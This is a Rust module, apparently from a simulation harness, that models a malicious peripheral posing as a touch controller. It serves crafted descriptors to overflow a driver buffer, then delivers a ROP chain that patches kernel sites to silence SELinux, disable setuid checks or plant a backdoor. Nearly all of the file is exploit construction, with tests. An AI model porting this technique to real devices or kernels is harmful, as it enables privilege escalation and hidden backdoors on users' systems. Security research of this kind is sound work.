//! The exploit persona: the attacker impersonating the controller at boot.
//! Crafted function descriptors inflate the claimed interrupt source count,
//! the overflow payload carries the three-gadget chain, and the persona
//! answers everything below the crafted region byte-identically to the benign
//! controller it replaced.

use thiserror::Error;

use crate::controller::{Controller, FunctionDescriptor};
use crate::driver::kernel::{PatchSiteTable, PatchTableError, PayloadId};
use crate::driver::rop::{CatalogError, GadgetCatalog, GadgetKind, KERNEL_WRITE_SYMBOL};
use crate::profile::Profile;
use crate::stack_frame::{
    PAYLOAD_LEN, SLOT_ARG_ADDR, SLOT_ARG_WORD, SLOT_GADGET1, SLOT_GADGET2, SLOT_GADGET3,
    SLOT_TARGET_FN,
};

/// Descriptor slots below or at this address belong to the benign image;
/// crafted descriptors are only ever served above it.
pub const CRAFT_THRESHOLD: u16 = 0x0500;

/// Wait after boot completes before pulling the interrupt line, simulated
/// microseconds.
pub const BOOT_WAIT_US: u64 = 20_000_000;

/// Inverse of the driver's read-length rule `len = ceil(count / 8)`: the
/// largest source count that makes the driver read exactly `target_read_len`
/// bytes.
pub fn compute_crafted_irq_total(target_read_len: u32) -> u32 {
    target_read_len * 8
}

/// Crafted descriptors claiming `claimed_total` interrupt sources in all,
/// seven per descriptor (the field is three bits wide) plus a remainder.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CraftedDescriptorSet {
    pub descriptors: Vec<FunctionDescriptor>,
    pub claimed_total: u32,
}

impl CraftedDescriptorSet {
    pub fn for_claimed_total(claimed_total: u32) -> Self {
        let full = claimed_total / 7;
        let rem = (claimed_total % 7) as u8;
        let mut descriptors = Vec::with_capacity(full as usize + 1);
        let make = |i: u32, count: u8| FunctionDescriptor {
            function_id: 0xa0 + (i % 0x50) as u8,
            query_addr: 0x10,
            command_addr: 0x00,
            control_addr: 0x20,
            data_addr: 0x30,
            irq_source_count: count,
        };
        for i in 0..full {
            descriptors.push(make(i, 7));
        }
        if rem > 0 {
            descriptors.push(make(full, rem));
        }
        CraftedDescriptorSet { descriptors, claimed_total }
    }

    /// Slot addresses the set occupies when served from `ext_base` downward.
    pub fn slot_addrs(&self, ext_base: u16) -> Vec<u16> {
        (0..self.descriptors.len())
            .map(|k| Profile::slot_addr(ext_base, k).expect("crafted table in range"))
            .collect()
    }

    /// Every slot must sit above the threshold or the set would be visible in
    /// the benign region.
    pub fn fits_above_threshold(&self, ext_base: u16) -> bool {
        // One extra slot for the zero terminator.
        match Profile::slot_addr(ext_base, self.descriptors.len()) {
            Some(last) => last > CRAFT_THRESHOLD,
            None => false,
        }
    }
}

/// Exactly 210 bytes: zeros except the chain slots. The saved-return slot
/// gets gadget 1; the stacked words feed gadgets 2 and 3 so the chain ends in
/// `call(target, addr, word)`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OverflowPayload {
    pub payload_id: PayloadId,
    pub bytes: Vec<u8>,
}

#[derive(Debug, Error)]
pub enum BuildError {
    #[error(transparent)]
    Catalog(#[from] CatalogError),
    #[error(transparent)]
    PatchTable(#[from] PatchTableError),
}

pub fn build_overflow_payload(
    payload_id: PayloadId,
    catalog: &GadgetCatalog,
    patch_table: &PatchSiteTable,
) -> Result<OverflowPayload, BuildError> {
    catalog.require_complete()?;
    let site = patch_table.site_for(payload_id)?;
    let g1 = catalog.address_of(GadgetKind::LoadPairRet).expect("checked complete");
    let g2 = catalog.address_of(GadgetKind::MovePairLoadRet).expect("checked complete");
    let g3 = catalog.address_of(GadgetKind::CallTwoArgs).expect("checked complete");
    let target = catalog.symbol(KERNEL_WRITE_SYMBOL).expect("checked complete");

    let mut bytes = vec![0u8; PAYLOAD_LEN];
    let mut put = |off: usize, v: u64| bytes[off..off + 8].copy_from_slice(&v.to_le_bytes());
    put(SLOT_GADGET1, g1);
    put(SLOT_GADGET2, g2);
    put(SLOT_TARGET_FN, target);
    put(SLOT_GADGET3, g3);
    put(SLOT_ARG_ADDR, site.addr);
    put(SLOT_ARG_WORD, site.word);
    Ok(OverflowPayload { payload_id, bytes })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum PersonaPhase {
    /// Emulating the register image, waiting for the boot-complete write.
    Booting,
    /// Boot seen; counting down to the trigger.
    Waiting { boot_done_at: u64 },
    /// Line pulled; the next status read gets the payload.
    Triggered,
    Done,
}

/// State machine that impersonates the powered-off controller.
#[derive(Debug, Clone)]
pub struct ExploitPersona {
    image: Controller,
    ext_base: u16,
    boot_marker_reg: u16,
    status_reg: u16,
    crafted: CraftedDescriptorSet,
    payload: OverflowPayload,
    phase: PersonaPhase,
}

impl ExploitPersona {
    pub fn new(
        profile: &Profile,
        payload_id: PayloadId,
        catalog: &GadgetCatalog,
        patch_table: &PatchSiteTable,
    ) -> Result<Self, BuildError> {
        let payload = build_overflow_payload(payload_id, catalog, patch_table)?;
        let benign_sources: u32 =
            profile.functions.iter().map(|f| u32::from(f.irq_source_count)).sum();
        let total = compute_crafted_irq_total(PAYLOAD_LEN as u32);
        let crafted = CraftedDescriptorSet::for_claimed_total(total - benign_sources);
        debug_assert!(crafted.fits_above_threshold(profile.extended_table_base));
        let boot_marker_reg = profile
            .function(0x01)
            .map(|f| u16::from(f.control_addr))
            .unwrap_or(0x0014);
        let status_reg = profile
            .function(0x01)
            .map(|f| u16::from(f.data_addr))
            .unwrap_or(crate::controller::REG_IRQ_STATUS);
        Ok(ExploitPersona {
            image: Controller::new(profile),
            ext_base: profile.extended_table_base,
            boot_marker_reg,
            status_reg,
            crafted,
            payload,
            phase: PersonaPhase::Booting,
        })
    }

    pub fn payload_id(&self) -> PayloadId {
        self.payload.payload_id
    }

    pub fn crafted(&self) -> &CraftedDescriptorSet {
        &self.crafted
    }

    pub fn irq_pending(&self) -> bool {
        self.phase == PersonaPhase::Triggered
    }

    pub fn done(&self) -> bool {
        self.phase == PersonaPhase::Done
    }

    /// Earliest tick at which the persona wants the clock to visit it again.
    pub fn next_wakeup(&self) -> Option<u64> {
        match self.phase {
            PersonaPhase::Waiting { boot_done_at } => Some(boot_done_at + BOOT_WAIT_US),
            _ => None,
        }
    }

    pub fn on_tick(&mut self, now: u64) {
        if let PersonaPhase::Waiting { boot_done_at } = self.phase {
            if now >= boot_done_at + BOOT_WAIT_US {
                self.phase = PersonaPhase::Triggered;
            }
        }
    }

    /// Register write from the driver: applied to the emulated image. The
    /// enable write at the end of the boot sequence starts the trigger timer.
    pub fn absorb_write(&mut self, now: u64, reg: u16, data: &[u8]) {
        self.image.handle_write(reg, data);
        if reg == self.boot_marker_reg && self.phase == PersonaPhase::Booting {
            self.phase = PersonaPhase::Waiting { boot_done_at: now };
        }
    }

    fn crafted_slot(&self, reg: u16) -> Option<&FunctionDescriptor> {
        if reg <= CRAFT_THRESHOLD || reg > self.ext_base {
            return None;
        }
        let delta = self.ext_base - reg;
        if delta % 6 != 0 {
            return None;
        }
        self.crafted.descriptors.get((delta / 6) as usize)
    }

    /// Answer a register read. Benign-identical for everything at or below
    /// the threshold; crafted descriptors for the extended table slots; the
    /// overflow payload for the status read once triggered.
    pub fn respond_read(&mut self, _now: u64, reg: u16, len: u32) -> Vec<u8> {
        if self.phase == PersonaPhase::Triggered && reg == self.status_reg {
            self.phase = PersonaPhase::Done;
            let mut out = vec![0u8; len as usize];
            for (i, b) in self.payload.bytes.iter().take(len as usize).enumerate() {
                out[i] = *b;
            }
            return out;
        }
        if len == FunctionDescriptor::SIZE as u32 {
            if let Some(fd) = self.crafted_slot(reg) {
                return fd.to_bytes().to_vec();
            }
        }
        self.image.handle_read(reg, len)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crafted_total_inverts_the_read_length_rule() {
        assert_eq!(compute_crafted_irq_total(210), 1680);
        assert_eq!(compute_crafted_irq_total(4), 32);
        assert_eq!(compute_crafted_irq_total(1), 8);
    }

    #[test]
    fn crafted_set_sums_to_its_claim_with_three_bit_fields() {
        let set = CraftedDescriptorSet::for_claimed_total(1677);
        let sum: u32 = set.descriptors.iter().map(|d| u32::from(d.irq_source_count)).sum();
        assert_eq!(sum, 1677);
        assert_eq!(set.descriptors.len(), 240);
        assert!(set.descriptors.iter().all(|d| d.irq_source_count <= 7 && d.function_id != 0));
        let profile = Profile::synaptics_like();
        assert!(set.fits_above_threshold(profile.extended_table_base));
        let slots = set.slot_addrs(profile.extended_table_base);
        assert!(slots.iter().all(|s| *s > CRAFT_THRESHOLD));
    }

    #[test]
    fn payload_places_the_chain_at_published_slots() {
        let catalog = GadgetCatalog::builtin();
        let table = PatchSiteTable::builtin();
        let p = build_overflow_payload(PayloadId::SilenceSelinux, &catalog, &table).unwrap();
        assert_eq!(p.bytes.len(), 210);
        let read = |off: usize| u64::from_le_bytes(p.bytes[off..off + 8].try_into().unwrap());
        assert_eq!(read(SLOT_GADGET1), catalog.address_of(GadgetKind::LoadPairRet).unwrap());
        let site = table.site_for(PayloadId::SilenceSelinux).unwrap();
        assert_eq!(read(SLOT_ARG_ADDR), site.addr);
        assert_eq!(read(SLOT_ARG_WORD), site.word);
    }

    #[test]
    fn incomplete_catalog_fails_the_build() {
        let mut catalog = GadgetCatalog::new();
        catalog.add_gadget(1, GadgetKind::LoadPairRet);
        catalog.add_gadget(2, GadgetKind::MovePairLoadRet);
        catalog.add_symbol(KERNEL_WRITE_SYMBOL, 9);
        let err = build_overflow_payload(PayloadId::HiddenBackdoor, &catalog, &PatchSiteTable::builtin());
        assert!(matches!(err, Err(BuildError::Catalog(CatalogError::CatalogIncomplete(_)))));
    }

    #[test]
    fn persona_serves_benign_bytes_below_threshold() {
        let profile = Profile::synaptics_like();
        let mut persona = ExploitPersona::new(
            &profile,
            PayloadId::DisableSetuidChecks,
            &GadgetCatalog::builtin(),
            &PatchSiteTable::builtin(),
        )
        .unwrap();
        let mut benign = Controller::new(&profile);
        for reg in [0x00e9u16, 0x00e3, 0x00dd, 0x00d7] {
            assert_eq!(persona.respond_read(0, reg, 6), benign.handle_read(reg, 6));
        }
        assert_eq!(persona.respond_read(0, 0x0004, 4), benign.handle_read(0x0004, 4));
    }

    #[test]
    fn persona_serves_crafted_slots_above_threshold_then_terminator() {
        let profile = Profile::synaptics_like();
        let mut persona = ExploitPersona::new(
            &profile,
            PayloadId::DisableSetuidChecks,
            &GadgetCatalog::builtin(),
            &PatchSiteTable::builtin(),
        )
        .unwrap();
        let base = profile.extended_table_base;
        let first = persona.respond_read(0, base, 6);
        assert_ne!(first, vec![0u8; 6]);
        let fd = FunctionDescriptor::from_bytes(&first.try_into().unwrap());
        assert_eq!(fd.irq_source_count, 7);
        // One slot past the crafted set reads as the zero terminator.
        let n = persona.crafted().descriptors.len();
        let term = Profile::slot_addr(base, n).unwrap();
        assert_eq!(persona.respond_read(0, term, 6), vec![0u8; 6]);
    }

    #[test]
    fn persona_triggers_twenty_seconds_after_boot_marker() {
        let profile = Profile::synaptics_like();
        let mut persona = ExploitPersona::new(
            &profile,
            PayloadId::HiddenBackdoor,
            &GadgetCatalog::builtin(),
            &PatchSiteTable::builtin(),
        )
        .unwrap();
        persona.absorb_write(1_000, 0x0014, &[0x01]);
        assert_eq!(persona.next_wakeup(), Some(1_000 + BOOT_WAIT_US));
        persona.on_tick(1_000 + BOOT_WAIT_US - 1);
        assert!(!persona.irq_pending());
        persona.on_tick(1_000 + BOOT_WAIT_US);
        assert!(persona.irq_pending());
        let served = persona.respond_read(0, 0x0006, 210);
        assert_eq!(served.len(), 210);
        assert!(!persona.irq_pending());
        assert!(persona.done());
    }
}
